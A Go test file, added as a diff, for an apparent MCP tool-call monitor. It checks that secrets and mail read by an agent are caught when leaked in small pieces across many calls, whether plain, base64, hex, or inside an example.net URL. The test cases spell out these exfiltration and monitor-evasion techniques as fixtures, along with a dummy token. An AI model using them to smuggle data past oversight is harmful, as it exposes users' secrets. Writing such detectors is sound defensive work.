@@ -1,0 +1,76 @@
+package guard_test
+
+import (
+	"encoding/hex"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/mcp-watchdog/mcp-watchdog/internal/finding"
+	"github.com/mcp-watchdog/mcp-watchdog/internal/guard"
+	"github.com/mcp-watchdog/mcp-watchdog/internal/policy"
+)
+
+// inCalls sends a text in pieces of n bytes, one in each call, and returns the worst
+// that was found.
+func inCalls(v *servers, n int, text string, arguments func(piece string) args) (worst *guard.Judged) {
+	for len(text) > 0 {
+		m := min(n, len(text))
+		f, _ := v.call("board", "post", arguments(text[:m]), "done")
+		if f != nil && (worst == nil || f.Severity > worst.Severity) {
+			worst = f
+		}
+		text = text[m:]
+	}
+	return worst
+}
+
+// TestPiecesOfSeveralCalls: what no call shows by itself shows in several.
+func TestPiecesOfSeveralCalls(t *testing.T) {
+	key := "ghp_" + "a8Kq2mZx7Lw4Rt9Yv3Nb6Pc1Sd5Fg0HjT2uW"
+	plainly := func(piece string) args { return args{"text": piece} }
+	address := func(piece string) args { return args{"url": "https://example.net/c?part=" + piece + "&x=1"} }
+	for name, c := range map[string]struct {
+		n         int
+		text      string
+		arguments func(string) args
+		want      finding.Severity
+	}{
+		"plain text":              {9, mail, plainly, finding.Info},
+		"base64":                  {8, b64(mail), plainly, finding.High},
+		"base64, unevenly":        {13, b64(mail), plainly, finding.High},
+		"hexadecimal":             {10, hex.EncodeToString([]byte(mail)), plainly, finding.High},
+		"in an address":           {11, strings.TrimRight(b64(mail), "="), address, finding.High},
+		"a secret":                {7, key, plainly, finding.Critical},
+		"a secret in an address":  {10, key, address, finding.Critical},
+		"a secret, base64":        {8, b64("token: " + key), plainly, finding.Critical},
+		"beside a counter":        {8, b64(mail), func(piece string) args { return args{"data": args{"text": piece}, "n": 1} }, finding.High},
+		"beside what is the same": {8, b64(mail), func(piece string) args { return args{"channel": "general", "text": piece} }, finding.High},
+	} {
+		v := newServers(t, policy.Monitor)
+		v.call("mail", "read_mail", args{"id": "7"}, mail+"\nThe token is "+key+"\n")
+		if f := inCalls(v, c.n, c.text, c.arguments); f == nil || f.Severity < c.want {
+			t.Errorf("%s: %+v", name, f)
+		}
+	}
+}
+
+// TestOrdinaryCallsOneByOne: names and ids of a list that are asked for one by one
+// are no copy that anybody has to know of.
+func TestOrdinaryCallsOneByOne(t *testing.T) {
+	v := newServers(t, policy.Strict)
+	var list strings.Builder
+	var ids []string
+	for i := range 40 {
+		ids = append(ids, fmt.Sprintf("%x", 0x9fceb02d0ae598*(i+1)), fmt.Sprintf("person%d@example.com", i), b64(fmt.Sprintf("cursor:%d", i*977)))
+	}
+	list.WriteString(strings.Join(ids, "\n"))
+	v.call("db", "query", args{"sql": "select id, mail, cursor from people"}, list.String())
+	for _, id := range ids {
+		for _, call := range []struct{ server, tool, argument string }{{"crm", "get_person", "id"}, {"mail", "send_email", "to"}, {"web", "fetch", "url"}} {
+			if f, _ := v.call(call.server, call.tool, args{call.argument: id}, "ok"); f != nil && f.Severity > finding.Info {
+				t.Fatalf("%s: %v %s", id, f.Severity, f.Why)
+			}
+		}
+	}
+}
